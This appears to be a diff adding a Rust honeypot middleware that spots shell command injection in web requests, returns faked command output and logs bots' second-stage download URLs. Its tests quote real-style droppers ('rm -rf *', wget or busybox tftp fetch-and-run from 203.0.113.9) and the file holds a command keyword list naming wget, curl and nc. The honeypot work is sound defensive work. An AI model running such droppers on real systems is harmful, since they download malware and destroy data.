@@ -0,0 +1,255 @@
+//! Command injection bait. Injected shell commands are found in query and
+//! form fields, and can be answered as if they ran: simple commands such
+//! as `id` and `uname` get canned output, and downloads appear to
+//! succeed. Bots that see their commands work follow up with the URLs of
+//! their second stages, which are logged.
+use std::sync::Arc;
+
+use lazy_static::lazy_static;
+use regex::Regex;
+use serde::Deserialize;
+
+use crate::{
+    http::{
+        request::Request,
+        response::{Response, ResponseBuilder, StatusCode},
+    },
+    middleware::{BoxFuture, Middleware, Next},
+    prelude::*,
+};
+
+const FAKE_PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n\
+daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
+bin:x:2:2:bin:/bin:/usr/sbin/nologin\n\
+sys:x:3:3:sys:/dev:/usr/sbin/nologin\n\
+www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
+nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n";
+
+const HOSTNAME: &str = "web01";
+const KERNEL: &str = "4.15.0-112-generic";
+
+/// commands worth injecting, which follow a metacharacter in payloads
+const COMMANDS: &[&str] = &[
+    "id", "whoami", "uname", "pwd", "hostname", "echo", "cat", "ls", "cd", "wget", "curl", "tftp",
+    "ftpget", "busybox", "sh", "bash", "chmod", "rm", "nc", "ping", "nohup", "perl", "python",
+    "python3", "php",
+];
+
+lazy_static! {
+    /// a metacharacter which starts a new command, and what follows it
+    static ref INJECTION: Regex =
+        Regex::new(r"(?:;|\|\|?|&&|\n|`|\$\()\s*([^`]*)").unwrap();
+    static ref URL: Regex =
+        Regex::new(r#"(?i)\b(?:https?|ftp|tftp)://[^\s'"`;|&<>()]+"#).unwrap();
+}
+
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct CommandInjectionConfig {
+    /// answer injected commands as if they ran
+    pub emulate: bool,
+}
+
+/// An injected command found in a request.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Injection {
+    /// the query or form field it was found in
+    pub field: String,
+    /// the commands following the metacharacter
+    pub command: String,
+}
+
+impl Injection {
+    /// the URLs the command downloads from.
+    pub fn download_urls(&self) -> Vec<String> {
+        let mut urls = URL
+            .find_iter(&self.command)
+            .map(|m| m.as_str().to_string())
+            .collect::<Vec<_>>();
+
+        // tftp -g -r FILE HOST and ftpget HOST LOCAL REMOTE name files apart
+        for command in commands(&self.command) {
+            match command.as_slice() {
+                [tftp, args @ ..] if *tftp == "tftp" => {
+                    let file = args
+                        .iter()
+                        .position(|a| *a == "-r")
+                        .and_then(|i| args.get(i + 1));
+                    let host = args.iter().rev().find(|a| !a.starts_with('-'));
+                    if let (Some(file), Some(host)) = (file, host) {
+                        urls.push(format!("tftp://{}/{}", host, file));
+                    }
+                }
+                [ftpget, args @ ..] if *ftpget == "ftpget" => {
+                    let args = args
+                        .iter()
+                        .filter(|a| !a.starts_with('-'))
+                        .collect::<Vec<_>>();
+                    if let [host, _, remote, ..] = args.as_slice() {
+                        urls.push(format!("ftp://{}/{}", host, remote));
+                    }
+                }
+                _ => (),
+            }
+        }
+
+        urls
+    }
+
+    /// the output the commands would have printed.
+    pub fn output(&self) -> String {
+        commands(&self.command).iter().map(|c| emulate(c)).collect()
+    }
+}
+
+/// the first injected command in the request's query or form fields.
+pub fn injection(req: &Request) -> Option<Injection> {
+    let form = url::form_urlencoded::parse(&req.body);
+    req.url
+        .query_pairs()
+        .chain(form)
+        .flat_map(|(k, v)| {
+            // a bare query such as `?cd+/tmp;wget+...` is all key
+            let field = k.to_string();
+            [(field.clone(), k), (field, v)]
+        })
+        .find_map(|(field, value)| {
+            INJECTION
+                .captures_iter(&value)
+                .filter_map(|c| c.get(1))
+                .map(|m| m.as_str().trim_end_matches(')').trim().to_string())
+                .find(|command| {
+                    commands(command)
+                        .first()
+                        .is_some_and(|c| COMMANDS.contains(&c[0]))
+                })
+                .map(|command| Injection { field, command })
+        })
+}
+
+/// splits a command line into simple commands and their words, dropping
+/// busybox and path prefixes.
+fn commands(line: &str) -> Vec<Vec<&str>> {
+    line.split([';', '|', '&', '\n', '`'])
+        .map(|c| {
+            let mut words = c
+                .split_whitespace()
+                .map(|w| w.trim_matches(|c| c == '\'' || c == '"' || c == '(' || c == ')'))
+                .filter(|w| !w.is_empty() && *w != "$")
+                .map(|w| {
+                    w.rsplit('/')
+                        .next()
+                        .filter(|_| !w.ends_with('/'))
+                        .unwrap_or(w)
+                })
+                .collect::<Vec<_>>();
+            if words.first() == Some(&"busybox") && words.len() > 1 {
+                words.remove(0);
+            }
+            words
+        })
+        .filter(|words| !words.is_empty())
+        .collect()
+}
+
+fn emulate(command: &[&str]) -> String {
+    let args = &command[1..];
+    match command[0] {
+        "id" => "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n".to_string(),
+        "whoami" => "www-data\n".to_string(),
+        "hostname" => format!("{}\n", HOSTNAME),
+        "pwd" => "/var/www/html\n".to_string(),
+        "uname" => match args.first().copied() {
+            Some("-a") => format!(
+                "Linux {} {} #113-Ubuntu SMP Thu Jul 9 23:41:39 UTC 2020 x86_64 x86_64 x86_64 GNU/Linux\n",
+                HOSTNAME, KERNEL
+            ),
+            Some("-m") => "x86_64\n".to_string(),
+            Some("-r") => format!("{}\n", KERNEL),
+            Some("-n") => format!("{}\n", HOSTNAME),
+            _ => "Linux\n".to_string(),
+        },
+        "echo" => format!("{}\n", args.join(" ")),
+        "cat" if args.contains(&"passwd") => FAKE_PASSWD.to_string(),
+        "cat" => String::new(),
+        "ls" => "index.php\nconfig.php\nuploads\n".to_string(),
+        "wget" => {
+            let file = args
+                .iter()
+                .rev()
+                .find(|a| !a.starts_with('-'))
+                .copied()
+                .unwrap_or("index.html");
+            format!(
+                "Connecting... connected.\nHTTP request sent, awaiting response... 200 OK\n\
+                 Length: 40960 (40K) [application/octet-stream]\nSaving to: '{}'\n\n'{}' saved [40960/40960]\n",
+                file, file
+            )
+        }
+        "cd" | "chmod" | "rm" | "curl" | "tftp" | "ftpget" | "sh" | "bash" | "nohup" | "nc"
+        | "perl" | "python" | "python3" | "php" | "ping" => String::new(),
+        other if other.starts_with('.') || other.starts_with('-') => String::new(),
+        other => format!("sh: 1: {}: not found\n", other),
+    }
+}
+
+/// Middleware which answers injected commands with their emulated output.
+#[derive(Debug, Clone, Copy, Default)]
+pub struct ShellEmulation;
+
+impl Middleware for ShellEmulation {
+    fn call<'a>(&'a self, req: &'a Request, next: Next<'a>) -> BoxFuture<'a, Result<Response>> {
+        Box::pin(async move {
+            let injection = match injection(req) {
+                Some(i) => i,
+                None => return next.run(req).await,
+            };
+
+            Ok(ResponseBuilder::default(Arc::new(next.into_conn()))
+                .status_code(StatusCode::Ok)
+                .add_header("Content-Type", "text/html; charset=UTF-8")
+                .body(injection.output())
+                .build()?)
+        })
+    }
+
+    fn route(&self) -> Option<&'static str> {
+        Some("shell")
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+    use crate::http::request::Method;
+
+    fn stub_request(target: &str, body: &str) -> Request {
+        Request::stub(Method::POST, target, body)
+    }
+
+    #[test]
+    fn test_injection() {
+        let req = stub_request("/ping.cgi?host=127.0.0.1%3Bid%3Buname+-a", "");
+        let found = injection(&req).unwrap();
+        assert_eq!("host", found.field);
+        assert_eq!("id;uname -a", found.command);
+        assert!(found
+            .output()
+            .starts_with("uid=33(www-data) gid=33(www-data) groups=33(www-data)\nLinux web01"));
+
+        let req = stub_request(
+            "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws",
+            "",
+        );
+        let found = injection(&req).unwrap();
+        assert_eq!(vec!["http://203.0.113.9/jaws"], found.download_urls());
+
+        let req = stub_request("/", "ip=%60busybox+tftp+-g+-r+mips+203.0.113.9%60");
+        let found = injection(&req).unwrap();
+        assert_eq!(vec!["tftp://203.0.113.9/mips"], found.download_urls());
+
+        for benign in ["/?q=fish+%26+chips", "/?a=1;b=2", "/?title=Tom%27s+cat"] {
+            assert_eq!(None, injection(&stub_request(benign, "")), "{}", benign);
+        }
+    }
+}